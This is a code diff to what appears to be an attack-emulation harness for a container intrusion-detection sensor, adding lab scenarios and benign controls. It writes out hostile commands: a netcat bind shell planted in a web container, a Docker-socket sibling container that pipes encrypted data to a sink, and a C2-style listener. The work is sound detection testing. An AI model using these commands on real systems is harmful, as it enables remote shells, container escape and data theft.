@@ -10,13 +10,18 @@ from __future__ import annotations
 
 import base64
 import os
+import shutil
+import subprocess
+import threading
 import time
+import uuid
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
-from emulation.lab import SECOND_IP, SINK_IP, VAULT_IP, Lab
+from emulation.lab import LABEL, SECOND_IP, SINK_IP, VAULT_IP, Lab
+from sensor.errors import SluiceError
 
 IMG = "sluice-emu/"
 API = IMG + "api-client:latest"
@@ -25,12 +30,23 @@ BACKUP = IMG + "backup-agent:latest"
 EXFIL = IMG + "my-exfil-container:latest"
 DB = IMG + "internal-db:latest"
 BATCH = IMG + "batch:latest"
-TAGS = [API, LOGS, BACKUP, EXFIL, DB, BATCH]
+WEB = IMG + "web:latest"  # a service that takes outside clients on 8080
+C2 = IMG + "c2-server:latest"  # never seen: the ephemeral C2 server
+CI = IMG + "ci-runner:latest"  # uses the Docker socket to run its jobs
+CI_JOB = IMG + "ci-job:latest"
+DEPLOYER = IMG + "deployer:latest"  # never seen: mounts the Docker socket
+TAGS = [API, LOGS, BACKUP, EXFIL, DB, BATCH, WEB, C2, CI, CI_JOB, DEPLOYER]
 # The compromised workload: a long-lived web application (busybox and perl,
 # no openssl, no curl) learned while benign; attacks run inside it by
 # `docker exec`, as an intruder with a shell in it would.
 WEBAPP = IMG + "webapp:latest"
 BARE_TAGS = [WEBAPP]
+# the address the lab configures as the Kubernetes API server
+# ([rules.SL-C2-008] api_servers); nothing listens there
+K8S_API = (SINK_IP, 6443)
+WEB_SERVE = (
+    "timeout {secs} nc -ll -p 8080 -e sh -c 'cat > /dev/null'; true"  # not exec'd as pid 1: that ignores SIGTERM
+)
 
 ENC = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab"
 
@@ -196,6 +212,47 @@ class Ctx:
         self.lab.exec(cid, script, timeout)
 
 
+def from_sink(ctx: Ctx, ip: str, port: int, data: bytes = b"hello\n", tries: int = 50) -> None:
+    """Connect from the sink netns (the lab's "outside") to a container's
+    port, retrying until it listens; raise when it never does."""
+    for _ in range(tries):
+        r = subprocess.run(
+            ["ip", "netns", "exec", ctx.lab.net.ns, "busybox", "nc", "-w", "2", ip, str(port)],
+            input=data,
+            capture_output=True,
+            timeout=15,
+        )
+        if r.returncode == 0:
+            return
+        time.sleep(0.2)
+    raise SluiceError(f"nothing listened on {ip}:{port} from the sink")
+
+
+def docker_mounts(ctx: Ctx) -> tuple[str, ...]:
+    """The lab engine's socket and the docker CLI, mounted into a container."""
+    cli = shutil.which("docker")
+    if cli is None:
+        raise SluiceError("the docker CLI is not installed")
+    return (f"{ctx.lab.docker.sock}:/var/run/docker.sock", f"{os.path.realpath(cli)}:/usr/bin/docker:ro")
+
+
+def inner_run(ctx: Ctx, name: str, image: str, script: str, network: str = "none") -> str:
+    """A `docker run` issued from inside a container (labelled: the lab's
+    cleanup removes what it starts)."""
+    return (
+        f"docker -H unix:///var/run/docker.sock run --name {name} --label {LABEL}={ctx.lab.run_id} "
+        f'--network {network} {image} sh -c "{script}"'
+    )
+
+
+def adopt(ctx: Ctx, *names: str) -> None:
+    """Containers started from inside a container belong to the scenario."""
+    for n in names:
+        cid = ctx.lab.docker("inspect", "-f", "{{.Id}}", n, check=False).strip()
+        if cid:
+            ctx.containers.append(cid)
+
+
 @dataclass(frozen=True)
 class Scenario:
     name: str
@@ -221,12 +278,30 @@ def learn_phase(ctx: Ctx, seconds: float) -> None:
     ctx.webapp()
     ctx.start(API, loop(f"{API_CALL}; {NAMED_API_CALL}", 1, n))
     ctx.start(LOGS, loop(f"{LOG_TEXT}; {LOG_GZIP}", 1, n))
+    _cid, web_ip = ctx.start(WEB, WEB_SERVE.format(secs=n))
+    ci_jobs = (
+        f"docker -H unix:///var/run/docker.sock run --rm --label {LABEL}={ctx.lab.run_id} --network none {CI_JOB} true"
+    )
+    ctx.start(CI, loop(ci_jobs, 2, max(2, n // 3)), network=False, volumes=docker_mounts(ctx))
+    clients = threading.Thread(target=_web_clients, args=(ctx, web_ip or "", seconds - 2), daemon=True)
+    clients.start()
     end = time.monotonic() + seconds
     while time.monotonic() < end - 3:  # nightly backup jobs: short-lived containers
         ctx.run(BACKUP, BACKUP_RUN)
         time.sleep(1)
     for c in list(ctx.containers):
         ctx.lab.wait(c, timeout=seconds + 30)  # the web application is kept: not in ctx.containers
+
+
+def _web_clients(ctx: Ctx, ip: str, seconds: float) -> None:
+    """The web service's usual clients: the sink, every half second."""
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            from_sink(ctx, ip, 8080, b"GET / HTTP/1.0\r\n\r\n", tries=3)
+        except (SluiceError, subprocess.TimeoutExpired):
+            pass
+        time.sleep(0.5)
 
 
 # --- attacks ------------------------------------------------------------------------
@@ -302,7 +377,52 @@ def _burst(ctx: Ctx) -> None:
     ctx.run(BATCH, f"head -c 100000 /dev/urandom | nc {SECOND_IP} 9005")
 
 
+def _c2_server(ctx: Ctx) -> None:
+    cid, ip = ctx.start(C2, "nc -l -p 8443 -e sh -c 'cat > /dev/null'; sleep 1")
+    from_sink(ctx, ip or "", 8443, b"beacon checkin\n")
+    ctx.lab.wait(cid)
+
+
+def _bind_shell(ctx: Ctx) -> None:
+    cid, ip = ctx.start(WEB, WEB_SERVE.format(secs=15))
+    from_sink(ctx, ip or "", 8080, b"GET / HTTP/1.0\r\n\r\n")  # still its usual self
+    ctx.lab.docker("exec", "-d", cid, "nc", "-l", "-p", "4445", "-e", "sh")
+    from_sink(ctx, ip or "", 4445, b"id; exit\n")
+
+
+def _docker_sibling(ctx: Ctx) -> None:
+    sib = f"sluice-emu-sib-{uuid.uuid4().hex[:8]}"
+    exfil = f"head -c 600000 /dev/urandom | {ENC} | nc {SINK_IP} 9002"
+    # the sibling joins the caller's network namespace, which reaches the sink
+    script = inner_run(ctx, sib, EXFIL, exfil, network="container:$(hostname)")
+    try:
+        ctx.run(DEPLOYER, script, volumes=docker_mounts(ctx))
+    finally:
+        adopt(ctx, sib)
+
+
+def _k8s_api(ctx: Ctx) -> None:
+    ctx.run(API, f"nc -w 1 {K8S_API[0]} {K8S_API[1]} </dev/null; true")
+
+
 # --- benign look-alikes ---------------------------------------------------------------
+
+
+def _b_web(ctx: Ctx) -> None:
+    cid, ip = ctx.start(WEB, WEB_SERVE.format(secs=6))
+    for _ in range(4):
+        from_sink(ctx, ip or "", 8080, b"GET / HTTP/1.0\r\n\r\n")
+        time.sleep(0.3)
+    ctx.lab.wait(cid)
+
+
+def _b_ci(ctx: Ctx) -> None:
+    jobs = [f"sluice-emu-job-{uuid.uuid4().hex[:8]}" for _ in range(2)]
+    script = "; ".join(inner_run(ctx, j, CI_JOB, "true") for j in jobs)
+    try:
+        ctx.run(CI, script, network=False, volumes=docker_mounts(ctx))
+    finally:
+        adopt(ctx, *jobs)
 
 
 def _b_backup(ctx: Ctx) -> None:
@@ -499,6 +619,34 @@ SCENARIOS: tuple[Scenario, ...] = (
         _burst,
     ),
     Scenario(
+        "c2-server-ephemeral",
+        "T1104",
+        ("SL-C2-005", "SL-C2-006"),
+        "a never-seen container listens on 8443 and the sink (outside) connects to it, then it exits",
+        _c2_server,
+    ),
+    Scenario(
+        "bind-shell-in-workload",
+        "T1104",
+        ("SL-C2-005", "SL-C2-006"),
+        "a running, learned web service gets a bind shell on 4445 (docker exec nc -l -e sh); the sink uses it",
+        _bind_shell,
+    ),
+    Scenario(
+        "docker-socket-sibling",
+        "T1610",
+        ("SL-C2-007", "SL-C2-009"),
+        "a container with the Docker socket mounted starts a sibling container that exfiltrates encrypted data",
+        _docker_sibling,
+    ),
+    Scenario(
+        "kubernetes-api-from-container",
+        "T1609",
+        ("SL-C2-008",),
+        "a learned API client connects to the address configured as the Kubernetes API server",
+        _k8s_api,
+    ),
+    Scenario(
         "benign-encrypted-backup",
         "benign",
         (),
@@ -515,6 +663,8 @@ SCENARIOS: tuple[Scenario, ...] = (
         f"the API client's partner service ({SERVICE}) now resolves to another address block",
         _b_moved,
     ),
+    Scenario("benign-web-service", "benign", (), "the learned web service takes its usual outside clients", _b_web),
+    Scenario("benign-ci-runner", "benign", (), "the learned CI runner starts its job containers via the socket", _b_ci),
     *COMPROMISED,
 )
 
@@ -544,8 +694,12 @@ min_bytes = 262144
 [rules.SL-EXF-004]
 min_bytes = 262144
 
+[rules.SL-C2-008]
+api_servers = ["K8S_API"]
+
 [[allow]]
 workload = "sluice-emu/backup-agent"
 destination = "{vault}/32"
 comment = "lab: the backup vault"
 """
+LAB_CONFIG = LAB_CONFIG.replace("K8S_API", f"{K8S_API[0]}:{K8S_API[1]}")
